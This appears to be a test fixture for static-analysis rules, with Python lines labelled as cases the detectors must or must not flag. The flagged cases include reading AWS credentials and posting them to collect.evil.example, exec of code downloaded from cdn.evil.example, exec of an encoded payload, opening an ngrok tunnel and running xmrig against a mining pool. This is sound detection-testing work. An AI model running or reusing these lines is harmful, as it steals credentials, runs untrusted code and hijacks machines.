import base64
import json
import os
import subprocess
import urllib.request
import zlib

import requests
from pyngrok import ngrok

KEY = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
SINK = "https://collect.evil.example/u"


def gather():
    with open(KEY) as f:
        text = f.read()
    box = {"aws": text}
    return box


stash = gather()
packed = base64.b64encode(json.dumps(stash).encode())
# ruleid: py-secret-exfiltration-flow
requests.post(SINK, data=packed)
# ok: py-secret-exfiltration-flow
requests.post(SINK, data=json.dumps({"status": "ok"}))

token = os.environ["SERVICE_API_TOKEN"]
hdrs = {"Authorization": "Bearer " + token}
# ruleid: py-credential-flow
requests.get("https://api.service.example/v1/me", headers=hdrs)
# ok: py-credential-flow
requests.get("https://api.service.example/v1/status")

# ruleid: py-download-execute
exec(urllib.request.urlopen("https://cdn.evil.example/s.py").read())
# ok: py-download-execute
print(urllib.request.urlopen("https://cdn.example/notes.txt").read())

# ruleid: py-exec-decoded-payload, decoded-payload
exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUdBNKw72UcgoKSkottLXTy3LzNFLrUjMLchJ1QeqzFCoUSjOUNLkAgAE5RZu")))
# ok: py-exec-decoded-payload, decoded-payload
print(base64.b64decode("aGVsbG8gd29ybGQ=").decode())

# ruleid: py-tunnel-open
ngrok.connect(8000)
# ok: py-tunnel-open
tunnel_doc = "ngrok.connect(8000)"

# ruleid: py-mining-pool
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.evil.example:3333"])
# ok: py-mining-pool
subprocess.run(["pip", "download", "xmlrpc-helper"])
